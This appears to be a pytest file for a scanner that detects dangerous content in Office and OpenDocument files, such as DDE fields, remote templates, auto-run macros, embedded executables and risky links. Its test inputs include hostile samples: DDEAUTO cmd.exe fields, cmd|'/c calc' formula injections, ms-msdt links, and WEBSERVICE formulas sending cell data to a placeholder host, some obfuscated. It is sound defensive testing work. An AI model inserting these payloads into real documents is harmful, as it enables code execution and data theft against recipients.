"""Office packages: fields, links, objects, macro sheets, whatever the package says of its parts."""

from __future__ import annotations

import pytest

from tests.unit.media.build import archive, compound, doc, office
from tests.unit.safety.active.made import codes, looked, native, rels, said, word

SETTINGS = "word/_rels/settings.xml.rels"
DOCUMENT = "word/_rels/document.xml.rels"


def field(*runs: str) -> bytes:
    return office("docx", {"word/header1.xml": word(*runs)})


@pytest.mark.parametrize(
    "runs",
    [
        ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",), ("D", "DEAU", "TO cm", "d.exe"),
        ("&#68;DE Excel",), ("<![CDATA[DDE cmd]]>",), ('"DDEAUTO" cmd',),
    ],
)  # fmt: skip
def test_a_dde_field_is_joined_before_it_is_judged(runs: tuple[str, ...]) -> None:
    found = looked(field(*runs)).found
    assert [(each.severity, each.code, each.where) for each in found] == [("error", "dde-program", "word/header1.xml")]


def test_a_dde_field_whose_letters_are_numbers() -> None:
    inner = '<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>'
    inner += '<w:fldChar w:fldCharType="separate"/><w:t>x</w:t><w:fldChar w:fldCharType="end"/>'
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    part = f"<w:p>{begin}{inner}<w:instrText> cmd.exe</w:instrText>{end}</w:p>".encode()
    assert "dde-program" in codes(office("docx", {"word/document2.xml": part}))


def test_a_simple_field_and_another_encoding() -> None:
    part = '<?xml version="1.0" encoding="utf-16"?><w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'
    assert "dde-program" in codes(office("docx", {"word/document2.xml": part.encode("utf-16")}))


@pytest.mark.parametrize("runs", [("XE ", '"DDEAUTO is old"'), ("PAGE",), ("REF DDE_1",), ('HYPERLINK \\l "DDE cmd"',)])
def test_fields_that_only_show_something_are_quiet(runs: tuple[str, ...]) -> None:
    assert codes(field(*runs)) == set()


@pytest.mark.parametrize(
    ("text", "severity", "code"),
    [
        ('INCLUDEPICTURE "http://example.com/a.png" \\d', "error", "remote-object"),
        ('INCLUDETEXT "\\\\\\\\host\\\\share\\\\a.doc"', "error", "remote-object"),
        ("INCLUDETEXT \\\\\\\\host\\\\a.doc", "error", "remote-object"),
        ('HYPERLINK "\\\\\\\\host\\\\share"', "warning", "unc-link"),
        ('HYPERLINK "ms-msdt:/id"', "error", "program-link"),
        ('INCLUDEPICTURE "C:\\\\a\\\\b.png"', "note", "local-link"),
    ],
)  # fmt: skip
def test_fields_that_fetch(text: str, severity: str, code: str) -> None:
    assert [(each.severity, each.code) for each in looked(field(text)).found] == [(severity, code)]


@pytest.mark.parametrize(
    ("kind", "target", "severity", "code"),
    [
        ("attachedTemplate", "http://example.com/a.dotm", "error", "remote-template"),
        ("attachedTemplate", "file://host/a.dotm", "error", "remote-template"),
        ("attachedTemplate", "file:///C:\\a.dotm", "note", "local-link"),
        ("attachedTemplate", "&#104;ttps://example.com/a", "error", "remote-template"),
        ("oleObject", "http://example.com/a", "error", "remote-object"),
        ("oleObject", "mhtml:http://example.com/a!x-usc:http://example.com/a", "error", "program-link"),
        ("frame", "\\\\host\\a", "error", "remote-object"), ("subDocument", "https://example.com", "error", "remote-object"),
        ("aFChunk", "http://example.com/a.rtf", "error", "remote-object"),
        ("hyperlink", "https://example.com", "note", "link"), ("hyperlink", "//example.com/a", "warning", "unc-link"),
        ("hyperlink", "javascript:a()", "warning", "program-link"), ("hyperlink", "ms-word:a", "error", "program-link"),
        ("image", "https://example.com/pixel.png", "warning", "remote-image"), ("image", "%5C%5Chost%5Ca", "error", "unc-link"),
        ("externalLinkPath", "https://example.com/a.xlsx", "warning", "remote-workbook"),
        ("externalLinkPath", "\\\\host\\a.xlsx", "warning", "unc-link"),
        ("externalLinkPath", "a.xlsx", "note", "local-link"), ("unheardOf", "\\\\host\\a", "error", "unc-link"),
    ],
)  # fmt: skip
def test_relationships(kind: str, target: str, severity: str, code: str) -> None:
    found = looked(office("docx", {DOCUMENT: rels((kind, target))})).found
    assert [(each.severity, each.code, each.where) for each in found] == [(severity, code, DOCUMENT)]


def test_relationships_inside_of_the_package_are_quiet() -> None:
    assert codes(office("docx", {DOCUMENT: rels(("image", "/word/media/a.png"), external=False)})) == set()


def test_a_link_of_a_workbook_to_a_program_and_to_data() -> None:
    link = '<externalLink><ddeLink ddeService="{}" ddeTopic="{}"/></externalLink>'
    program = {"xl/externalLinks/externalLink1.xml": link.format("cmd", "/c calc").encode()}
    assert said(office("xlsx", program)) == {("error", "dde-program")}
    data = {"xl/externalLinks/externalLink1.xml": link.format("MTX", "DATA").encode()}
    assert said(office("xlsx", data)) == {("warning", "dde-data")}
    hidden = {"xl/externalLinks/externalLink1.xml": link.format("MSEXCEL", "\\..\\..\\Windows\\cmd.exe /c a").encode()}
    assert said(office("xlsx", hidden)) == {("error", "dde-program")}


def test_macro_sheets_by_folder_root_and_name() -> None:
    sheet = b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="x"/>'
    assert said(office("xlsx", {"xl/worksheets/sheet1.xml": sheet})) == {("warning", "excel4-macro")}
    book = b'<workbook><definedNames><definedName name="_xlnm.Auto_Open_1" hidden="1">M!A1</definedName></definedNames></workbook>'
    both = office("xlsx", {"xl/macrosheets/sheet1.xml": sheet, "xl/workbook2.xml": book})
    assert said(both) == {("warning", "excel4-macro"), ("error", "macro-auto-run")}


def test_a_binary_workbook() -> None:
    def wide(text: str) -> bytes:
        return len(text).to_bytes(4, "little") + text.encode("utf-16-le")

    name = b"\0" * 9 + wide("_xlnm.Auto_Open")
    book = b"\x27" + bytes((len(name),)) + name
    asks = b"\1\0" + wide("cmd") + wide("/c calc")
    types = (b'<Types><Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
             b'<Override PartName="/xl/externalLinks/externalLink1.bin" ContentType="application/vnd.ms-excel.externalLink"/></Types>')  # fmt: skip
    data = archive({
        "[Content_Types].xml": types, "xl/workbook.bin": book,
        "xl/externalLinks/externalLink1.bin": b"\xe8\x02" + bytes((len(asks),)) + asks,
    })  # fmt: skip
    assert said(data) == {("error", "macro-auto-run"), ("error", "dde-program")}


def test_programs_among_parts_and_objects() -> None:
    assert "embedded-program" in codes(office("docx", {"word/a.exe": b"x"}))
    assert "embedded-program" in codes(office("docx", {"word/media/image1.png": b"MZ\x90\0" + b"\0" * 60}))
    object_ = compound({"\x01Ole10Native": native("invoice.pdf.lnk", b"x")})
    found = looked(office("docx", {"word/embeddings/oleObject1.bin": object_})).found
    assert (found[0].code, found[0].where) == ("embedded-program", "word/embeddings/oleObject1.bin > Ole10Native")
    renamed = compound({"\x01Ole10Native": native("invoice.txt", b"MZ\x90\0" + b"\0" * 60)})
    assert "embedded-program" in codes(office("docx", {"word/embeddings/oleObject1.bin": renamed}))
    letter = compound({"\x01Ole10Native": native("letter.txt", b"hello")})
    assert said(office("docx", {"word/embeddings/oleObject1.bin": letter})) == {("warning", "embedded-file")}


def test_documents_inside_of_documents_are_looked_into() -> None:
    inner = office("xlsx", {"xl/_rels/workbook.xml.rels": rels(("oleObject", "http://example.com"))})
    found = looked(office("docx", {"word/embeddings/a.xlsx": inner})).found
    assert found[0].where == "word/embeddings/a.xlsx > xl/_rels/workbook.xml.rels"
    deep = inner
    for _ in range(6):
        deep = office("docx", {"word/embeddings/a.docx": deep})
    assert any("documents deep" in reason for _, reason in looked(deep).unread)


@pytest.mark.parametrize(
    ("kind", "target", "code"),
    [
        ("attachedTemplate", "http://example.com/a", "remote-template"),
        ("image", "\\\\host\\a", "unc-link"),
        ("image", "//word/a.png", None),
    ],
)
def test_a_target_outside_of_the_package_that_is_not_called_so(kind: str, target: str, code: str | None) -> None:
    assert codes(office("docx", {DOCUMENT: rels((kind, target), external=False)})) == ({code} if code else set())


def test_open_document() -> None:
    def document(content: bytes, **parts: bytes) -> bytes:
        return archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content, **parts})

    dde = b'<text:dde-connection-decl office:dde-application="cmd" office:dde-topic="/c a"/>'
    assert said(document(dde)) == {("error", "dde-program")}
    event = b'<script:event-listener script:event-name="{}" xlink:href="vnd.sun.star.script:a?language=Basic"/>'
    assert said(document(event.replace(b"{}", b"dom:load"))) == {("error", "macro-auto-run")}
    assert said(document(event.replace(b"{}", b"dom:click"))) == {("warning", "macro")}
    module = b'<script:module script:language="StarBasic">Sub Main</script:module>'
    assert said(document(b"<a/>", **{"Basic/Standard/Module1.xml": module})) == {("warning", "macro")}
    locked = b"<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
    result = looked(document(b"<a/>", **{"META-INF/manifest.xml": locked}))
    assert [each.code for each in result.found] == ["encrypted"]
    assert result.unread


def test_a_page_of_the_web_as_a_part_and_a_member_that_is_encrypted() -> None:
    assert said(office("docx", {"word/afchunk.mht": b"MIME-Version: 1.0"})) == {("warning", "embedded-file")}
    data = bytearray(archive({"a.txt": b"hello"}))
    data[6] |= 1
    data[data.find(b"PK\1\2") + 8] |= 1
    result = looked(bytes(data))
    assert [each.code for each in result.found] == ["encrypted"]
    assert result.unread


def test_a_program_between_the_parts() -> None:
    data = archive({"a.txt": b"hello" * 100})
    start, end = data.find(b"PK\1\2"), data.find(b"PK\5\6")
    gap = b"MZ" + b"\x90" * 80
    moved = bytearray(data[:start] + gap + data[start:])
    moved[end + len(gap) + 16 : end + len(gap) + 20] = (start + len(gap)).to_bytes(4, "little")
    assert "embedded-program" in codes(bytes(moved))


def test_controls_and_buttons() -> None:
    control = b'<ax:ocx ax:classid="{0}" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    assert said(office("docx", {"word/c.xml": control})) == {("warning", "activex")}
    buttons = b'<customUI xmlns="x"><ribbon><tabs><tab id="a"><group><button id="b" onAction="Run"/></group></tab></tabs></ribbon></customUI>'
    assert said(office("xlsx", {"customUI/customUI.xml": buttons})) == {("warning", "custom-ui")}
    click = b'<p:sld><a:hlinkClick action="ppaction://program" r:id="r1"/></p:sld>'
    assert said(office("pptx", {"ppt/slides/slide1.xml": click})) == {("error", "program-link")}


def test_a_part_that_cannot_be_had_costs_itself() -> None:
    data = office("docx", {"word/a.xml": word("DDE cmd"), "word/b.xml": word("PAGE") + b" " * 3000})
    broken = data.replace(b"word/b.xml", b"word/c.xml", 1)
    result = looked(broken)
    assert "dde-program" in {each.code for each in result.found}
    assert [where for where, _ in result.unread] == ["word/b.xml"]


@pytest.mark.parametrize(("at", "what"), [(16, "another checksum"), (24, "more than its directory says")])
def test_a_part_that_its_directory_lies_about_is_unread(at: int, what: str) -> None:
    data = bytearray(office("docx", {"word/b.xml": b"<a>" + b"b" * 500 + b"</a>"}))
    line = data.rfind(b"PK\1\2")
    data[line + at] ^= 1
    assert [(where, what in reason) for where, reason in looked(bytes(data)).unread] == [("word/b.xml", True)]


def test_a_dtd_is_unread() -> None:
    part = b'<!DOCTYPE a [<!ENTITY x "cmd">]><w:p><w:fldSimple w:instr="DDE &x;"/></w:p>'
    assert [where for where, _ in looked(office("docx", {"word/a.xml": part})).unread] == ["word/a.xml"]


def test_numbers_without_end_are_no_trouble() -> None:
    assert looked(field("QUOTE " + "9" * 5000)).unread == ()


def test_ordinary_documents_are_quiet() -> None:
    for kind in ("docx", "xlsx", "pptx"):
        assert looked(office(kind)) == ((), (), ())
    assert looked(doc()) == ((), (), ())


def test_a_bomb_is_passed_over_in_time() -> None:
    result = looked(office("docx", {"word/a.xml": b"<a>" + b"<w:instrText>A</w:instrText>" * 400_000}))
    assert result.unread


@pytest.mark.parametrize(
    ("formula", "severity", "code"),
    [
        ("cmd|' /c calc'!A0", "error", "dde-program"), ("1+cmd|'/c a'!A0", "error", "dde-program"),
        ("MTX|DATA!A1", "warning", "dde-data"), ("'C:\\a\\cmd.exe'|'x'!A", "error", "dde-program"),
        ('_xlfn.WEBSERVICE("http://a.example/"&amp;B1)', "warning", "remote-workbook"),
        ('WEBSERVICE("ht"&amp;"tp://a.example")', "warning", "remote-workbook"),
        ('WEBSERVICE("\\\\host\\a")', "error", "unc-link"), ('_xlfn.IMAGE("https://a.example/a.png")', "warning", "remote-image"),
        ('HYPERLINK("ms-msdt:/id","x")', "error", "program-link"), ('HYPERLINK("\\\\host\\a","x")', "warning", "unc-link"),
        ("'\\\\host\\share\\[a.xlsx]S'!A1", "warning", "unc-link"), ('RTD("a.b",,"c")', "warning", "dde-data"),
        ('of:=DDE("cmd";"/c calc";"A0")', "error", "dde-program"), ("<![CDATA[cmd|'/c a'!A0]]>", "error", "dde-program"),
        ("cmd&#124;'/c a'!A0", "error", "dde-program"), ("cmd" + " " * 30000 + "|'/c a'!A0", "error", "dde-program"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("element", ["f", "x14:formula", "definedName", "xm:f", "formula1"])
def test_formulas(element: str, formula: str, severity: str, code: str) -> None:
    part = f'<a><c><{element} name="a">{formula}</{element}></c></a>'.encode()
    found = looked(office("xlsx", {"xl/worksheets/sheet9.xml": part}))
    assert [(each.severity, each.code, each.where) for each in found.found] == [
        (severity, code, "xl/worksheets/sheet9.xml")
    ]
    assert not found.unread


@pytest.mark.parametrize("formula", ["SUM(A1:A2)", 'IF(A1="a|b",1,2)', 'HYPERLINK("#A1","x")', '"|"&amp;A1', "[1]S!A1"])
def test_ordinary_formulas_are_quiet(formula: str) -> None:
    assert looked(office("xlsx", {"xl/worksheets/sheet9.xml": f"<a><f>{formula}</f></a>".encode()})) == ((), (), ())


def test_a_formula_at_any_place_of_a_long_sheet() -> None:
    for before in range(65_500, 65_560, 7):
        part = b"<a>" + b" " * before + b"<c><f>cmd|'/c a'!A0</f></c>" + b"<c><f>A1</f></c>" * 90_000 + b"</a>"
        assert said(office("xlsx", {"xl/worksheets/sheet9.xml": part})) == {("error", "dde-program")}


@pytest.mark.parametrize(
    ("connection", "expected"),
    [
        ('type="6"><textPr sourceFile="\\\\host\\a.txt"/>', ("error", "unc-link")),
        ('type="5" odcFile="http://a.example/a.odc"><dbPr/>', ("warning", "remote-workbook")),
        ('type="5"><dbPr connection="Provider=X;Data Source=\\\\host\\a.mdb"/>', ("error", "unc-link")),
        ('type="1"><dbPr connection="DSN=a;DBQ=http://a.example/a"/>', ("warning", "remote-workbook")),
    ],
)  # fmt: skip
def test_connections_to_data(connection: str, expected: tuple[str, str]) -> None:
    part = f'<connections><connection id="1" refreshOnLoad="1" {connection}</connection></connections>'.encode()
    assert said(office("xlsx", {"xl/connections.xml": part})) == {expected}


def test_addresses_of_a_letter_shapes_and_the_package_itself() -> None:
    letter = b'<w:settings><w:mailMerge><w:connectString w:val="Provider=X;Data Source=\\\\host\\a"/></w:mailMerge></w:settings>'
    assert said(office("docx", {"word/settings9.xml": letter})) == {("error", "unc-link")}
    shape = b'<w:p xmlns:v="urn:schemas-microsoft-com:vml"><v:rect href="ms-msdt:/id"/></w:p>'
    assert said(office("docx", {"word/header9.xml": shape})) == {("error", "program-link")}
    top = rels(("officeDocument", "word/document.xml"), ("attachedTemplate", "\\\\host\\a.dotm"))
    assert ("error", "remote-template") in said(office("docx", {"_rels/.rels": top}))


@pytest.mark.parametrize("blanks", [5, 30_000, 300_000])
def test_blanks_hide_nothing(blanks: int) -> None:
    pad = " " * blanks
    assert said(field(pad + "DDEAUTO cmd")) == {("error", "dde-program")}
    assert said(field(*[" "] * (blanks // 100), "DDEAUTO cmd")) == {("error", "dde-program")}
    attribute = f'<w:fldSimple w:x="{pad}" w:instr="{pad}DDE cmd"/>'.encode()
    assert said(office("docx", {"word/header9.xml": attribute})) == {("error", "dde-program")}
    target = rels(("attachedTemplate", "&#32;" * (blanks // 5) + pad + "http://a.example/b"))
    assert said(office("docx", {DOCUMENT: target})) == {("error", "remote-template")}
    assert looked(field("INCLUDEPICTURE " + '"" ' * blanks + '"http://a.example"')).unread or blanks < 60


def test_more_attributes_than_are_looked_at_are_told() -> None:
    part = b"<w:fldSimple " + b'a="b" ' * 30_000 + b'w:instr="DDE cmd"/>'
    assert looked(office("docx", {"word/header9.xml": part})).unread
